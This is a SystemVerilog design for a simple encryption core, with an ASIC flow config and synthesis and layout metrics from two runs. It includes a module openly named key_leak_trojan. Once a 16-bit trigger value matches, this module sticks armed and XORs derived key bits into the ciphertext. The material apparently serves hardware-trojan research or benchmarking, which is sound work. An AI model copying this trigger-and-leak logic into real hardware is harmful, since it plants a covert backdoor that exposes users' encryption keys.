`src/source/crypto_pkg.sv`:
```
// Block and key widths, block and leak types, request struct, IV LFSR step rule
package crypto_pkg;

    // Block geometry
    localparam int block_bytes = 16;
    localparam int byte_bits   = 8;
    localparam int block_bits  = block_bytes * byte_bits;

    // Width of the derived key and of the leak word
    localparam int leak_bits = 64;

    // Width of the trigger compare on the derived key
    localparam int trigger_bits = 16;

    // Plaintext, ciphertext and round state
    typedef logic [block_bits-1:0] block_t;

    // Derived key and leak word
    typedef logic [leak_bits-1:0] leak_t;

    // One encryption request as presented at the top level
    typedef struct packed {
        block_t plaintext;
        block_t cipher_key;
    } crypto_req_t;

    // IV advance by one bit
    // Feedback taps sit at the top bit of each 32-bit word
    function automatic block_t lfsr_step(input block_t iv);
        logic fb;
        fb = iv[block_bits-1] ^ iv[95] ^ iv[63] ^ iv[31];
        return {iv[block_bits-2:0], fb};
    endfunction

endpackage

```
`src/source/iv_key_deriver.sv`:
```
// IV LFSR and derived-key register that feed the trigger logic
module iv_key_deriver
    import crypto_pkg::*;
#(
    parameter block_t iv_seed = 128'h0123_4567_89ab_cdef_0123_4567_89ab_cdef
) (
    input  logic  clk,
    input  logic  rst,
    // Low word of the live cipher key
    input  leak_t key_low,
    input  logic  encrypt_start,
    input  logic  busy,
    output leak_t derived_key
);

    // IV shift register
    block_t iv;

    // Pre-step low word of the IV, mixed into the key
    leak_t  iv_low;

    // Steps on a start strobe as well as during a run
    logic   step_en;

    assign step_en = encrypt_start | busy;
    assign iv_low  = iv[leak_bits-1:0];

    // IV advances once per active cycle
    always_ff @(posedge clk or posedge rst) begin
        if (rst) begin
            iv <= iv_seed;
        end else if (step_en) begin
            iv <= lfsr_step(iv);
        end
    end

    // Derived key uses the IV value from before this step
    always_ff @(posedge clk or posedge rst) begin
        if (rst) begin
            derived_key <= '0;
        end else if (step_en) begin
            derived_key <= key_low ^ iv_low;
        end
    end

endmodule

```
`src/source/round_engine.sv`:
```
// Round counter, busy flag, state and round-key registers, final leak mixing
module round_engine
    import crypto_pkg::*;
#(
    parameter int round_count = 8
) (
    input  logic        clk,
    input  logic        rst,
    input  crypto_req_t req,
    input  logic        encrypt_start,
    // Word XORed into the low end of the result
    input  leak_t       leak,
    output logic        busy,
    output block_t      ciphertext,
    output logic        encrypt_done
);

    localparam int cnt_bits = $clog2(round_count + 1);
    localparam logic [cnt_bits-1:0] last_cnt = cnt_bits'(round_count - 1);

    logic [cnt_bits-1:0] round_cnt;

    // Round datapath
    block_t state;
    block_t round_key;
    block_t next_state;
    block_t next_round_key;

    // Leak word widened to a full block
    block_t leak_wide;

    logic start_ok;
    logic last_round;
    logic do_round;

    // Starts while busy are dropped here
    assign start_ok   = encrypt_start & ~busy;
    assign last_round = busy & (round_cnt == last_cnt);
    assign do_round   = busy & ~last_round;

    assign next_state = state ^ round_key;

    // Key rotates left by one byte per round
    assign next_round_key = {
        round_key[block_bits-byte_bits-1:0],
        round_key[block_bits-1 -: byte_bits]
    };

    assign leak_wide = {{(block_bits - leak_bits){1'b0}}, leak};

    // Control: busy flag, round counter, done pulse
    always_ff @(posedge clk or posedge rst) begin
        if (rst) begin
            busy         <= 1'b0;
            round_cnt    <= '0;
            encrypt_done <= 1'b0;
        end else begin
            encrypt_done <= 1'b0;
            if (start_ok) begin
                busy      <= 1'b1;
                round_cnt <= '0;
            end else if (last_round) begin
                busy         <= 1'b0;
                encrypt_done <= 1'b1;
            end else if (do_round) begin
                round_cnt <= round_cnt + 1'b1;
            end
        end
    end

    // Round state and key
    always_ff @(posedge clk) begin
        if (start_ok) begin
            state     <= req.plaintext;
            round_key <= req.cipher_key;
        end else if (do_round) begin
            state     <= next_state;
            round_key <= next_round_key;
        end
    end

    // Result register, held until the next completion
    always_ff @(posedge clk or posedge rst) begin
        if (rst) begin
            ciphertext <= '0;
        end else if (last_round) begin
            ciphertext <= state ^ leak_wide;
        end
    end

endmodule

```
`src/source/key_leak_trojan.sv`:
```
// Trigger comparator, sticky armed flag and leak output gating
module key_leak_trojan
    import crypto_pkg::*;
#(
    parameter logic [trigger_bits-1:0] trigger_secret = 16'hdead
) (
    input  logic  clk,
    input  logic  rst,
    input  leak_t derived_key,
    output leak_t leak
);

    logic armed;
    logic hit;

    // Match on the low bits of the derived key
    assign hit = (derived_key[trigger_bits-1:0] == trigger_secret);

    // Stays set until reset
    always_ff @(posedge clk or posedge rst) begin
        if (rst) begin
            armed <= 1'b0;
        end else if (hit) begin
            armed <= 1'b1;
        end
    end

    // Whole derived key goes out once armed
    always_comb begin
        if (armed) begin
            leak = derived_key;
        end else begin
            leak = '0;
        end
    end

endmodule

```
`src/source/crypto_host_top.sv`:
```
// Host top level with key deriver, round engine and trigger logic
module crypto_host_top
    import crypto_pkg::*;
#(
    parameter int                      round_count    = 8,
    parameter block_t                  iv_seed        = 128'h0123_4567_89ab_cdef_0123_4567_89ab_cdef,
    parameter logic [trigger_bits-1:0] trigger_secret = 16'hdead
) (
    input  logic   clk,
    input  logic   rst,
    input  block_t plaintext,
    input  block_t cipher_key,
    // One-cycle start strobe
    input  logic   encrypt_start,
    output block_t ciphertext,
    // One-cycle completion pulse
    output logic   encrypt_done
);

    crypto_req_t req;
    logic        busy;
    leak_t       derived_key;
    leak_t       leak;

    assign req = '{plaintext: plaintext, cipher_key: cipher_key};

    // Key stirring, sampled from the live cipher key
    iv_key_deriver #(
        .iv_seed(iv_seed)
    ) deriver0 (
        .clk          (clk),
        .rst          (rst),
        .key_low      (req.cipher_key[leak_bits-1:0]),
        .encrypt_start(encrypt_start),
        .busy         (busy),
        .derived_key  (derived_key)
    );

    round_engine #(
        .round_count(round_count)
    ) engine0 (
        .clk          (clk),
        .rst          (rst),
        .req          (req),
        .encrypt_start(encrypt_start),
        .leak         (leak),
        .busy         (busy),
        .ciphertext   (ciphertext),
        .encrypt_done (encrypt_done)
    );

    key_leak_trojan #(
        .trigger_secret(trigger_secret)
    ) trojan0 (
        .clk        (clk),
        .rst        (rst),
        .derived_key(derived_key),
        .leak       (leak)
    );

endmodule

```
`config.mk`:
```
export PLATFORM = sky130hd
export DESIGN_NAME = crypto_host_top
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/source/crypto_pkg.sv /design/src/source/iv_key_deriver.sv /design/src/source/round_engine.sv /design/src/source/key_leak_trojan.sv /design/src/source/crypto_host_top.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export ABC_AREA = 1
export BUFFER_PORTS_ARGS = -buffer_cell sky130_fd_sc_hd__clkbuf_2
export CAP_MARGIN = 5
export CORE_ASPECT_RATIO = 2
export CORE_MARGIN = 2
export CORE_UTILIZATION = 35
export CTS_CLUSTER_SIZE = 24
export DETAILED_ROUTE_END_ITERATION = 10
export GPL_TIMING_DRIVEN = 0
export PLACE_DENSITY = 0.53
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_SLANG_ARGS = --single-unit
```
`constraint.sdc`:
```
create_clock -name clk -period 10 [get_ports clk]
set_input_delay 0 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 0 -clock clk [all_outputs]
set_load 0.02 [all_outputs]
```
; ---- Yosys cells after proc, flatten, opt, wreduce, memory -nomap -nowiden
; Cells that the tools add are included.
[classes]
add_sub_neg = 1
shift = 0
multipliers = 0
order_cmp = 0
n_reduce_logical = 3
n_div = 0
n_bitwise = 12
eq_ne = 3
n_mux = 12
[ops]
columns = op, count
row1 = $mux W128, 4
row2 = $xor A128 B128 Y128, 1
row3 = $xor A128 B64 Y128, 1
row4 = $mux W64, 1
row5 = $xor A64 B64 Y64, 1
row6 = $eq A16 B16 Y1 const B, 1
row7 = $mux W4, 3
row8 = $add A4 B1 Y4 const B, 1
row9 = $eq A4 B3 Y1 const B, 1
row10 = $mux W1, 4
row11 = $reduce_bool A2 Y1, 2
row12 = $and A1 B1 Y1, 3
row13 = $xor A1 B1 Y1, 3
row14 = $ne A2 B1 Y1 const B, 1
row15 = $not A1 Y1, 2
row16 = $reduce_and A2 Y1, 1
row17 = $or A1 B1 Y1, 1
[word_totals]
ramBits = 0
reg_bits = 583
output_inout_bits = 129
memories = 0
latch_bits = 0
wordCells = 40
romBits = 0

; ---- Depth between registers and ports, before layout
; Gate-level depths: netlist of the first run.
[logic_depth]
word_depth = 7
ltp_mapped = 10
ltp_nobuf = 7

; ---- Hierarchy
; A second synthesis of the first run with hierarchy kept.
[unflattened]
hier_cells = 2587
hier_area_um2 = 25896.1
[modules_own_cells]
columns = mod, seq_area_each_um2, cells_each, area_each_um2, instances
row1 = round_engine, 11040.6, 1662, 17375.4, 1
row2 = iv_key_deriver, 4884.7, 764, 7856.3, 1
row3 = key_leak_trojan, 25.0, 161, 664.4, 1

; ---- Least setup slack after synthesis of the first run
; OpenSTA, ideal clock, no wires.
[synth_path]
kind = flip-flop to flip-flop
startpoint = register engine0.round_cnt[0]
endpoint = register engine0.round_cnt[0]
setup_ns = 0.388
path_slack_ns = 3.361
required_time_ns = 9.612
t_arrival_ns = 6.251
stages_incl_launch_ff = 9
period_less_slack_ns = 6.639
path_buffers = 1
path_cell_list = dfrtp_1 -> ha_1 -> nand2_1 -> inv_1 -> nand2_2 -> buf_6 -> nand2_1 -> inv_1 -> o21ai_0
[synth_via]
elab_chain_cells = 6
elab_cells_between_ends = 11
classes_between = add/sub: 1 / eq/ne: 2 / mux: 3 / bitwise: 3 / reduce/logical: 2
[synth_rtl]
columns = item, line_no
row1 = start: declaration, round_engine.sv:21  ; logic [cnt_bits-1:0] round_cnt;
row2 = start signal: assignment, round_engine.sv:66  ; round_cnt <= round_cnt + 1'b1;
row3 = "parallel branches: the longest is 6 deep, another holds $add A4 B1 Y4", --
; Parallel ways; which one is timed is not known. The select of a mux whose other input is x is not followed.
; A chain may end at the register's enable or synchronous reset.

; ---- Worst setup path in the final report of the first run
[layout_path]
startpoint = register engine0.round_cnt[0]
endpoint = register engine0.state[108] (enable)
[layout_via]
elab_chain_cells = 5
[layout_rtl]
columns = item, line_no
row1 = $eq A4 B3 Y1, round_engine.sv:38  ; assign last_round = busy & (round_cnt == last_cnt);
row2 = $and A1 B1 Y1, round_engine.sv:38
row3 = $not A1 Y1, round_engine.sv:39  ; assign do_round = busy & ~last_round;
row4 = $and A1 B1 Y1, round_engine.sv:39
row5 = $reduce_bool A2 Y1 (no source line), --
row6 = end signal: assignment, round_engine.sv:74  ; state <= req.plaintext;
row7 = end signal: assignment, round_engine.sv:77  ; state <= next_state;
row8 = end: declaration, round_engine.sv:24  ; block_t state;
; Every way passes these cells.

==> results of run 1 <==
[sequential cells by signal, indices dropped and copies added, names as in the netlist]
register,flops
engine0.state,128
engine0.ciphertext,128
trojan0.armed,1
engine0.round_cnt,4
deriver0.derived_key,64
engine0.encrypt_done,1
engine0.busy,1
engine0.round_key,128
deriver0.iv,128
[layout make-up]
type                       instances  area share (%)
buffer                           133            2.20
clock inverter                    31           0.783
timing repair buffer             651            14.2
tap                              916            3.48
inverter                          21           0.285
multi-input combinational       1822            25.8
clock buffer                      75            4.72
sequential                       583            48.5
antenna                            2          0.0152
[kinds of logic after synthesis]
group | synth area share [%]
flip-flops | 63.1
AO/OA/AOI/OAI | 5.28
buffers and inverters | 3.18
adder cells (fa/ha/maj) | 0.0495
AND/OR/NAND/NOR | 19.4
XOR/XNOR | 8.95
[worst max-delay path, stage by stage, from the launching register on]
cell	delay, ps
dfrtp_1	410
ha_1	230
nand2_1	80
inv_1	50
nand2_2	340
buf_6	260
nand2_1	210
inv_8	400
buf_16	420
buf_16	490
[per-layer routing]
layer  global-route usage, %  vias up  part of all wire, %
li1                        -     9594                    -
met1                    25.3     9480                   39
met2                    40.3      559                   51
met3                    4.06      165                  5.0
met4                    9.57       16                  4.4
met5                       0        -                 0.12
[per-stage QoR]
step / util, % / std cells
after global routing: 45.9 / 4233
after global placement: 39.6 / 3862
after detailed placement: 39.8 / 3867
after CTS: 45.9 / 4232
after floorplan: - / 2559
final: 45.9 / 4234
[synthesized netlist by cell type, types with 7 or more instances]
library cell / count / area [um2]
nand2_1: 1280 / 4800
dfrtp_1: 263 / 6580
edfxtp_1: 256 / 7690
o21ai_0: 221 / 1110
xnor2_1: 193 / 1690
xor2_1: 65 / 569
dfstp_2: 64 / 1680
buf_2: 63 / 315
clkbuf_1: 45 / 169
o21ai_1: 42 / 210
buf_6: 16 / 180
inv_1: 16 / 60.1
buf_4: 7 / 52.6
[worst max-delay path by stage]
stage	from	to	slack, ps	cells after the start
final	engine0.round_cnt[0]	engine0.state[108]	6630	9
after global routing	engine0.round_cnt[0]	engine0.state[108]	6410	9
after CTS	engine0.round_cnt[0]	engine0.state[108]	6510	9
after detailed placement	engine0.round_cnt[0]	engine0.state[108]	6510	9
after global placement	rst	engine0.ciphertext[13]	-3490	2
after floorplan	rst	deriver0.derived_key[0]	1050	1
[where the power goes]
part           internal (mW)  total [mW]  switching, mW
Sequential              3.93        4.71          0.786
Combinational           1.25        3.29           2.04
Clock                   1.17        2.15          0.977
==> results.py, run 1 <==
metrics = {
    "outcome": {
        "status": "completed",
    },
    "cts": {
        "htreeDepth": 2,
        "clk_latency_ps": 650,
        "numCtsBuffers": 56,
        "cts_buffer_depth": 3,
        "ctsResizeCount": 0,
        "cts-hold-fix-buffers": 259,
        "path_clk_slew_ps": 70,
        "postCtsSetupBuffers": 0,
        "cts_tree": "done",
        "cts.sinks": 583,
        "cts_root_buffer": "clkbuf_16",
    },
    "worst_setup_path": {
        "end_kind": "register",
        "crit_type": "reg -> reg",
        "start_kind": "register",
        "arrival_ps": 3620,
        "reg2reg_from": "engine0.round_cnt[0]",
        "worst-path-max-fanout": 110,
        "r2r_cells": 9,
        "regToRegSetupSlack_ps": 6630,
        "critPathRequiredTime_ps": 10260,
        "r2r-end": "engine0.state[108]",
    },
    "detailed_routing": {
        "routed_via_density": 4.68,
        "postRouteAntennaNets": 0,
        "routedWlPerCell_um": 19.6,
        "route.vias.total": 19800,
        "drtIter0Drc": 882,
        "drt_first_pass_iters": 4,
        "drc_errors": 0,
        "routed_wl_mm": 82.9,
    },
    "sta": {
        "hold_violations": 0,
        "fin_ws_ps": 6630,
        "fmax_mhz": 297,
        "slew-limit-headroom_pct": 47.7,
        "finalMaxSlewViolations": 0,
        "min_period_ps": 3370,
        "worstMarginPinSlew_ps": 785,
        "finalSetupViolations": 0,
        "holdWs_ps": 176,
        "rsz0062_at_grt": "false",
        "fin_worst_skew_ps": 29.3,
        "tns_ps": 0,
        "finalCritPeriodShare_pct": 33.7,
    },
    "placement": {
        "routabilityCongestion": 0.842,
        "io_buffers": 387,
        "postPlaceCellArea_um2": 28500,
        "post-place-ws_ps": 6510,
        "dp_hpwl_mm": 62.0,
    },
    "final_layout": {
        "fillers": 6926,
        "nNetsFinal": 3528,
        "layout-drive-gt1-share_pct": 19.2,
        "multi_input_area_um2": 8500,
        "finalInstanceArea_um2": 32900,
        "layout_commonest_cell": "nand2_1",
        "layout_common_cells": "nand2_1, clkbuf_2, dfrtp_1",
        "seqCellArea_um2": 16000,
        "syn_to_final_growth_pct": 30.3,
    },
    "global_routing": {
        "grt_pass1_wl_mm": 125,
        "grt_pass1_vias": 20900,
        "grt_max_degree": 116,
        "overflow": 0,
        "track_usage_pct": 22.2,
        "antenna_found_initial": 11,
    },
    "synthesis": {
        "synthesis.nets": 2819,
        "yosysSeqAreaShare_pct": 63.1,
        "synth_warnings": 0,
        "yosys_most_used_dff": "dfrtp_1",
        "syn-cell-area_um2": 25300,
        "synthArstFlopShare_pct": 56.1,
        "syn_avg_cell_area_um2": 9.87,
        "syn_inst": 2559,
        "synth_cell_types": 24,
        "synth_edf_count": 256,
        "ys_ff_latch": 583,
    },
    "run": {
        "max_cap_violations": 0,
    },
    "die": {
        "die_area_um2": 74500,
        "die_w_um": 194,
        "io_pins": 388,
        "core_area_um2": 71700,
        "die_y_um": 384,
        "initial_core_util_pct": 35.3,
        "core.rowCount": 139,
    },
    "power_and_ir_drop": {
        "p_per_area_nw_per_um2": 309,
        "ir_worst_vdd_mv": 0.210,
        "total_power_mw": 10.2,
        "p_leak_nw": 14.9,
    },
    "worst_hold_path": {
        "min_path_cells": 4,
        "min_path_type": "in -> reg",
        "worstHoldEndpoint": "engine0.state[28]",
        "worstHoldStart": "plaintext[28]",
    },
}
Note: power is estimated with default switching activity, not from simulation.
==> run 2, diff against run 1 <==
ABC_AREA = 0   (was 1)
PLACE_DENSITY = 0.55   (was 0.53)
clock period = 2.9 ns   (was 10 ns; I/O delays follow)
==> results.py, run 2 <==
metrics = {
    "synthesis": {
        "synthesis.nets": 2127,
        "yosysTopAreaCell": "edfxtp_1",
        "post-synth-top-count-cell": "nand2_1",
        "synth_warnings": 0,
        "yosys_most_used_dff": "dfrtp_1",
        "synthTopCellsByCount": "nand2_1, mux2_2, dfrtp_1",
        "synth_top_area_share_pct": 30.5,
        "synth_cell_types": 29,
        "ys_ff_latch": 583,
        "synthArstFlopShare_pct": 56.1,
        "syn_avg_cell_area_um2": 13.5,
        "synth_edf_count": 256,
        "yosysSeqAreaShare_pct": 63.3,
        "synth_area_leaders": "edfxtp_1, dfrtp_1, mux2_2, xnor2_1, dfstp_2",
        "syn-cell-area_um2": 25200,
        "syn_inst": 1867,
    },
    "worst_setup_path": {
        "cp_cell_sequence": "ha_2 -> nand4b_1 -> buf_6 -> buf_6 -> inv_4 -> nor2_4 -> buf_16 -> buf_12 -> buf_12",
        "reg2reg_from": "engine0.round_cnt[1]",
        "start_kind": "register",
        "slowest_delay_ps": 420,
        "worst-path-max-fanout": 34,
        "crit_type": "reg -> reg",
        "startpoint": "engine0.round_cnt[1]",
        "critPathRequiredTime_ps": 3180,
        "slowest_stage": "dfrtp_1",
        "end_kind": "register",
        "arrival_ps": 3010,
    },
    "power_and_ir_drop": {
        "ir_worst_vdd_mv": 0.885,
        "power_frac_comb_pct": 30.8,
        "p_seq_share_pct": 47.3,
        "p_switching_mw": 11.2,
        "p_per_area_nw_per_um2": 1000,
        "cellInternalPower_mw": 22.0,
        "switching_share_pct": 33.8,
        "power.share.clock_pct": 21.9,
        "p_leak_nw": 13.5,
    },
    "die": {
        "die_y_um": 383,
        "core_area_um2": 71500,
        "io_pins": 388,
        "die_w_um": 194,
        "initial_core_util_pct": 35.3,
        "die_area_um2": 74300,
        "core.rowCount": 139,
    },
    "cts": {
        "cts_buffer_depth": 3,
        "clk_latency_ps": 610,
        "cts_root_buffer": "clkbuf_16",
        "htreeDepth": 2,
        "path_clk_slew_ps": 70,
        "cts_tree": "done",
        "numCtsBuffers": 53,
        "cts.sinks": 583,
    },
    "detailed_routing": {
        "routed_via_density": 4.76,
        "routed_wl_mm": 76.9,
        "route.vias.total": 16900,
        "postRouteAntennaNets": 0,
        "drc_errors": 0,
        "drtIter0Drc": 716,
        "routedWlPerCell_um": 21.6,
        "drt_first_pass_iters": 4,
    },
    "sta": {
        "finalSetupViolations": 0,
        "min_period_ps": 2730,
        "worstMarginPinSlew_ps": 776,
        "tns_ps": 0,
        "finalMaxSlewViolations": 0,
        "finalCritPeriodShare_pct": 94.0,
        "hold_violations": 0,
        "fin_worst_skew_ps": 30.2,
        "slew-limit-headroom_pct": 48.3,
        "fin_ws_ps": 174,
        "fmax_mhz": 367,
        "rsz0062_at_grt": "false",
        "holdWs_ps": 203,
    },
    "final_layout": {
        "nNetsFinal": 2850,
        "layout-drive-gt1-share_pct": 36.2,
        "syn_to_final_growth_pct": 31.5,
        "layout_commonest_cell": "clkbuf_2",
        "finalInstanceArea_um2": 33100,
        "layout_common_cells": "clkbuf_2, nand2_1, mux2_2",
    },
    "worst_hold_path": {
        "min_path_type": "in -> reg",
        "worstHoldStart": "plaintext[28]",
    },
    "outcome": {
        "status": "completed",
    },
    "global_routing": {
        "antenna_found_initial": 9,
        "grt_pass1_wl_mm": 116,
        "overflow": 0,
        "grt_pass1_vias": 18300,
        "grt_max_degree": 41,
        "track_usage_pct": 20.6,
    },
    "placement": {
        "dp_hpwl_mm": 57.9,
        "post-place-ws_ps": -154,
        "io_buffers": 387,
        "postPlaceCellArea_um2": 28800,
        "routabilityCongestion": 0.851,
    },
    "run": {
        "max_cap_violations": 0,
    },
}
run 2: through the flow:
stage	total power, mW	util (%)	instances
4_1_cts	33.7	46.4	3551
3_3_place_gp	25.2	39.6	3170
6_report	33.2	46.4	3555
3_5_place_dp	25.9	40.2	3190
5_1_grt	35.1	46.4	3553
2_1_floorplan	21.8	-	1867
run 2: logic make-up (layout without fill, tap and decap cells):
logic type	count (synthesis)	in the layout	synth area share (%)
muxes	319	319	14.3
DFF	583	583	63.3
other	0	4	0
xor gates and xnor gates	260	260	9.04
adders and majority gates	1	1	0.0496
AOI/OAI and AO/OA	263	263	5.29
and+or+nand+nor	339	339	5.27
buffers and inverters	102	870	2.80
run 2: repair_timing:
item / CTS / global route
endpoints found under the setup margin: 131 / 0
hold buffers: 259 / 0
hold endpoints to repair: 467 / 0
resized for setup: 1 / 0
setup buffers: 2 / 0
run 2: power groups by stage:
stage	Sequential, mW	Clock [mW]	Combinational, mW
detailed placement	15.9	0	10.0
finish	15.7	7.28	10.2
CTS	15.8	7.51	10.4
global route	16.1	7.79	11.2
floorplan	16.1	0	5.64
global placement	15.9	0	9.33
run 2: worst paths after layout:
path / to / slack [ps] / depth (start not counted)
setup / recovery: engine0.round_key[49] / 170 / 9
max in group asynchronous: deriver0.iv[65] / 1080 / 8
min in group asynchronous: deriver0.derived_key[37] / 520 / 4
hold / removal: engine0.state[28] / 200 / 4
hold reg to reg: deriver0.derived_key[27] / 480 / 2
setup reg to reg: engine0.round_key[49] / 170 / 9
run 2: routing by layer:
metal	vias to the layer above	track usage (%)	share of wire (%)	wire length (um)
li1	7930	-	-	-
met1	8420	24.0	40	30500
met2	439	37.8	52	40100
met3	113	3.48	4.6	3550
met4	10	7.39	3.6	2790
met5	-	0	0.082	63
run 2: area by class of cell:
type / instances / area (um2)
plain buffers: 99 / 703
diodes: 4 / 10.0
clock buffers: 75 / 1540
repair buffers: 668 / 4990
multi-input cells: 1182 / 8560
clock inverters: 25 / 226
flip-flops and latches: 583 / 16000
well taps: 916 / 1150
fillers: 6459 / 38300
inverters: 3 / 17.5
run 2: critical path, delay by kind of cell (launching register included):
kind | cells | cell delay, ps
buf+inv | 6 | 1180
simple gates | 2 | 540
flops | 1 | 420
fa+ha+maj | 1 | 220
